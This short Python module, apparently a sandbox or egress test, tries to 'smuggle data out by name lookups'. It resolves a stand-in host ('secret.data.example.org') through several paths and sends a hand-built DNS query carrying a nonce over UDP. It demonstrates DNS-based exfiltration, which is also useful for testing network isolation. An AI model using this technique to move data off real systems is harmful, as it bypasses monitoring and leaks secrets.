"""Smuggles data out by name lookups."""

import ctypes
import socket


def name_lookup(targets: dict) -> dict:
    """Find a server."""
    print("PRIMITIVE", socket.getaddrinfo)
    said = []
    for look in (lambda: socket.getaddrinfo("localhost", targets["tcp"][1]), lambda: socket.gethostbyname("secret.data.example.org")):
        try:
            said.append(str(look()))
        except OSError as error:
            said.append(repr(error))
    query = bytes(5) + b"\x01" + bytes(6) + bytes([len(targets["nonce"])]) + targets["nonce"].encode() + b"\x07example\x03org\x00\x00\x01\x00\x01"
    try:
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, tuple(targets["udp"]))
    except OSError as error:
        said.append(repr(error))
    resolver = ctypes.CDLL(None)
    said.append(bool(resolver.gethostbyname(b"secret.data.example.org")))
    return {"said": said}
